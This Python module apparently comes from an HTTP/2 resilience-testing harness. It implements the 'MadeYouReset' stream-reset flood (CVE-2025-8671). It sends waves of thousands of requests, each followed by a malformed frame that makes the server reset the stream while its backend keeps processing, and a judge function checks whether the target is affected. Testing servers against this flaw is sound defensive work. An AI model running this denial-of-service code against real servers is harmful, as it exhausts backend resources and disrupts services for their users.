"""Made you reset: the client provokes the server into resetting its streams.

CVE-2025-8671. Errors of a stream make the server answer RST_STREAM and forget the request, while the service still works on it:
a WINDOW_UPDATE of 0, a window beyond 2^31-1, DATA after END_STREAM, a PRIORITY that depends on itself. Counting the client's own
RST_STREAM frames sees none of it.
"""
import struct

from kit.frames import DATA, LARGEST_WINDOW, PRIORITY, frame, opening, request, window_update

LISTENER = "h2c"
GROWTH_MIB = 32
STREAMS = 8_000


def provocation(stream):
    return (window_update(stream, 0), window_update(stream, LARGEST_WINDOW), frame(DATA, 0, stream, b"late"),
            frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 0)))


def attack(enemy):
    waves = [opening() + b"".join(request(stream, path=b"/open/bytes/64") + provocation(stream)[kind] for stream in range(1, 2 * STREAMS, 2))
             for kind in range(4)]
    while enemy.goes_on():
        for wave in waves:
            connection = enemy.connect()
            if connection is None:
                continue
            with connection:
                if enemy.push(connection, wave):
                    enemy.note("whole waves")


def judge(notes):
    if notes.get("service calls", 0) > 200 * notes.get("connections", 0):
        return [f"{notes['service calls']} calls reached the service"]
    return []
